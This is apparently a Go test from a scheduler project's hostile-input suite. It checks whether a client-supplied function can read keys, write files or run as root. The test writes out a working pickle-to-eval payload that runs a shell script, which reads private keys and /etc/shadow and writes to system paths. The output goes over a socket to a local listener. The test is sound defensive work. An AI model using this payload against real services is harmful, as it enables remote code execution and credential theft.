package hostile

import (
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"

	"go.millstream.dev/internal/wire/msgpack"
)

func init() {
	register(attack{name: "files of the scheduler from a Python helper", targets: everywhere,
		run: func(ctx context.Context, r *Rig) error {
			return r.attackFiles(ctx)
		}})
}

// attackFiles has a client's function read the keys, write into the journal and look around as root would. What it
// finds comes back over the network, which such functions have.
func (r *Rig) attackFiles(ctx context.Context) error {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer ln.Close()
	canary := filepath.Join(r.dir, "canary")
	script := fmt.Sprintf("id -u; cat %[1]s/*key.pem /etc/shadow; ls %[2]s; echo x > %[2]s/evil; echo x > %[3]s; "+
		"echo x > /etc/evil; ls -d /proc/[0-9]* | wc -l",
		orNowhere(r.Certificates), orNowhere(r.Journal), canary)
	// A function of the client: eval, with one expression as its argument.
	expression := fmt.Sprintf("__import__('socket').create_connection(('127.0.0.1', %d), "+
		"30).sendall(__import__('subprocess').run("+
		"['/bin/sh', '-c', '%s'], stdout=-1, stderr=-3).stdout)", ln.Addr().(*net.TCPAddr).Port, script)
	args := msgpack.MapOf("function", []byte("cbuiltins\neval\n."), "args", []byte("(V"+expression+"\nt."), "kwargs",
		[]byte("(d."), "wait", true)
	heard := make(chan string, 1)
	go func() {
		defer close(heard)
		_ = ln.(*net.TCPListener).SetDeadline(time.Now().Add(2 * time.Minute))
		c, err := ln.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		b, _ := io.ReadAll(io.LimitReader(c, 1<<20))
		heard <- string(b)
	}()
	if err := r.Call(ctx, r.Scheduler.Address, "run_function", args, nil); err != nil {
		return fmt.Errorf("run_function: %w", err)
	}
	var got string
	select {
	case got = <-heard:
	case <-ctx.Done():
		return ctx.Err()
	}
	lines := strings.Fields(got)
	switch {
	case len(lines) == 0:
		return fmt.Errorf("the function has said nothing")
	case lines[0] == "0":
		return fmt.Errorf("the function runs as root: %q", got)
	case strings.Contains(got, "PRIVATE KEY"), strings.Contains(got, "root:"), len(lines) > 2:
		return fmt.Errorf("the function has read %q", got)
	}
	for _, path := range []string{canary, filepath.Join(orNowhere(r.Journal), "evil"), "/etc/evil"} {
		if _, err := os.Stat(path); err == nil {
			_ = os.Remove(path)
			return fmt.Errorf("the function has written %s", path)
		}
	}
	return nil
}

// orNowhere returns a folder, or one that does not exist.
func orNowhere(dir string) string {
	if dir == "" {
		return "/nowhere"
	}
	return dir
}
